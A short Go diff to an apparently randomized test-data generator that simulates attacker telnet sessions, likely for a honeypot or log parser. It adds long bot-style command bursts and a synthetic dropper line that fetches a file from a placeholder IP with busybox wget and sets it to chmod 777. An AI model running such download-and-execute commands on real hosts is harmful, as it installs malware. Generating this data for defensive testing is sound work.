@@ -143,8 +143,12 @@ var protos = []proto{
 			u, p := word(r), word(r)
 			ch := [][]byte{[]byte(u + eol()), []byte(p + eol())}
 			ex := []string{"auth:" + u + "/" + p}
-			for i := r.Range(1, 5); i > 0; i-- {
-				c := r.PickS([]string{"ls", "cat " + word(r), "uname -a", "wget " + word(r), word(r)})
+			n := r.Range(1, 5)
+			if r.Chance(1, 2) {
+				n = r.Range(25, 60) // a bot's whole script in one go: longer than any reader's buffer
+			}
+			for i := n; i > 0; i-- {
+				c := r.PickS([]string{"ls", "cat " + word(r), "uname -a", "wget " + word(r), word(r), "/bin/busybox wget http://198.51.100.7/bins/" + word(r) + "; chmod 777 " + word(r)})
 				ch = append(ch, []byte(c+eol()))
 				ex = append(ex, "cmd:"+c)
 			}
